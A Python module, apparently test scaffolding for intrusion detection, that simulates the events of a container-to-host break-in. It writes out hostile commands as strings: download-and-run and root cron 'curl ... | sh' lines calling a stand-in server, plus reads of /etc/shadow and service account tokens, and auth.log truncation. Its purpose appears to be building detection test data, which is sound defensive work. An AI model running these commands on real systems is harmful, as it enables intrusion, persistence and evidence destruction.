"""One intrusion: from a web shell in a container to a job in the host's crontab.

The steps are those that public reports tell again and again. Each is one turn, and the whole is few events among many.
"""

from collections.abc import Generator, Iterator
from typing import Final

from examples import hooks
from examples.activities import run
from examples.cluster import API
from examples.events import Process
from examples.node import Node

SERVER: Final = "203.0.113.77"
_WEB_UID: Final = 33
_UPLOADS: Final = "/var/www/html/wp-content/uploads/2026/01"
_DROPPED: Final = "/tmp/.x"
_HOST: Final = "/host"
_JOB: Final = f"* * * * * root curl -fsSL http://{SERVER}:8080/c | sh"


def intrude(node: Node) -> Iterator[bool]:
    web = next(main for _, main in node.containers if main.pod and main.pod.workload == "cms")
    server = node.fork(web, uid=_WEB_UID, cwd="/var/www/html")
    yield from _web_shell(node, server)
    dropped = yield from _download(node, server)
    line = hooks.talk(node, dropped, SERVER, 4444, 96)
    yield next(line)
    shell = node.clone(dropped, "/bin/sh", "-i")
    yield True
    yield from _service_account(node, shell)
    root = yield from _become_root(node, shell)
    yield from _shadow(node, root)
    yield from _host_mount(node, root)
    yield from _persist(node, root)
    yield from _cover(node, root)
    for process in (root, shell):
        node.exit(process)
        yield True
    yield from line
    node.exit(dropped)
    yield True
    yield from _come_back(node)


def _web_shell(node: Node, server: Process) -> Iterator[bool]:
    hooks.accept(node, server, 80, SERVER)
    hooks.create(node, server, f"{_UPLOADS}/avatar.php")
    hooks.write(node, server, f"{_UPLOADS}/avatar.php")
    yield True
    for command, *binary in (("id", "/usr/bin/id"), ("uname -a", "/usr/bin/uname", "-a")):
        hooks.accept(node, server, 80, SERVER)
        shell = node.clone(server, "/bin/sh", "-c", command)
        yield True
        process = node.exec(shell, *binary)
        yield True
        node.exit(process)
        yield True


def _download(node: Node, server: Process) -> Generator[bool, None, Process]:
    line = f"curl -fsSL http://{SERVER}:8080/x -o {_DROPPED} && chmod +x {_DROPPED} && {_DROPPED} &"
    shell = node.clone(server, "/bin/sh", "-c", line)
    yield True
    curl = node.clone(shell, "/usr/bin/curl", "-fsSL", f"http://{SERVER}:8080/x", "-o", _DROPPED)
    yield True
    yield from hooks.talk(node, curl, SERVER, 8080, 82)
    hooks.create(node, curl, _DROPPED)
    hooks.write(node, curl, _DROPPED)
    node.exit(curl)
    yield True
    chmod = node.clone(shell, "/bin/chmod", "+x", _DROPPED)
    hooks.chmod(node, chmod, _DROPPED, 0o755)
    node.exit(chmod)
    yield True
    hooks.checked(node, shell, _DROPPED)
    dropped = node.clone(shell, _DROPPED)
    yield True
    node.exit(shell)
    yield True
    return dropped


def _service_account(node: Node, shell: Process) -> Iterator[bool]:
    cat = node.clone(shell, "/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token")
    hooks.read_token(node, cat)
    node.exit(cat)
    yield True
    secrets = f"https://{API}/api/v1/namespaces/shop/secrets"
    curl = node.clone(
        shell, "/usr/bin/curl", "-sk", "-H", "Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.e30.c2ln", secrets
    )
    yield True
    yield from hooks.talk(node, curl, API, 443, 1_300)
    node.exit(curl)
    yield True


def _become_root(node: Node, shell: Process) -> Generator[bool, None, Process]:
    cat = node.clone(shell, "/bin/cat", "/etc/shadow")
    hooks.read(node, cat, "/etc/shadow", "-rw-r-----", returned=hooks.EACCES)
    node.exit(cat, status=1)
    yield True
    yield from run(node, shell, "/usr/bin/find", "/", "-perm", "-4000", "-type", "f")
    helper = node.clone(shell, "/usr/local/bin/backup-helper", "--shell", uid=0, is_setuid=True)
    yield True
    hooks.set_ids(node, helper, "setuid", 0)
    hooks.set_ids(node, helper, "setgid", 0)
    hooks.commit_creds(node, helper, 0)
    yield True
    return node.exec(helper, "/bin/sh", "-p")


def _shadow(node: Node, root: Process) -> Iterator[bool]:
    cat = node.clone(root, "/bin/cat", "/etc/shadow")
    hooks.opened(node, cat, "/etc/shadow", "-rw-r-----")
    hooks.read(node, cat, "/etc/shadow", "-rw-r-----")
    node.exit(cat)
    yield True


def _host_mount(node: Node, root: Process) -> Iterator[bool]:
    folder = node.clone(root, "/bin/mkdir", "-p", _HOST)
    hooks.make_folder(node, folder, _HOST)
    node.exit(folder)
    yield True
    mount = node.clone(root, "/bin/mount", "/dev/sda1", _HOST)
    hooks.mount(node, mount, "/dev/sda1", _HOST)
    node.exit(mount)
    yield True
    cat = node.clone(root, "/bin/cat", f"{_HOST}/etc/shadow")
    hooks.read(node, cat, f"{_HOST}/etc/shadow", "-rw-r-----")
    node.exit(cat)
    yield True


def _persist(node: Node, root: Process) -> Iterator[bool]:
    line = f"echo '{_JOB}' > {_HOST}/etc/cron.d/.sysstat-update"
    shell = node.clone(root, "/bin/sh", "-c", line)
    hooks.create(node, shell, f"{_HOST}/etc/cron.d/.sysstat-update")
    hooks.write(node, shell, f"{_HOST}/etc/cron.d/.sysstat-update")
    node.exit(shell)
    yield True


def _cover(node: Node, root: Process) -> Iterator[bool]:
    remove = node.clone(root, "/bin/rm", "-f", _DROPPED, f"{_UPLOADS}/avatar.php")
    hooks.unlink(node, remove, _DROPPED)
    hooks.unlink(node, remove, f"{_UPLOADS}/avatar.php")
    node.exit(remove)
    yield True
    tool = node.clone(root, "/usr/bin/truncate", "-s", "0", f"{_HOST}/var/log/auth.log")
    hooks.truncate(node, tool, f"{_HOST}/var/log/auth.log")
    node.exit(tool)
    yield True


def _come_back(node: Node) -> Iterator[bool]:
    """A minute later, the host's own cron."""
    child = node.clone(node.services["/usr/sbin/cron"], "/usr/sbin/cron", "-f", "-P")
    yield True
    shell = node.clone(child, "/bin/sh", "-c", f"curl -fsSL http://{SERVER}:8080/c | sh", cwd="/root")
    yield True
    curl = node.clone(shell, "/usr/bin/curl", "-fsSL", f"http://{SERVER}:8080/c")
    piped = node.clone(shell, "/bin/sh")
    yield True
    yield from hooks.talk(node, curl, SERVER, 8080, 80)
    hooks.create(node, piped, "/root/.ssh/authorized_keys", 0o600)
    hooks.write(node, piped, "/root/.ssh/authorized_keys", "-rw-------")
    for process in (curl, piped, shell, child):
        node.exit(process)
        yield True
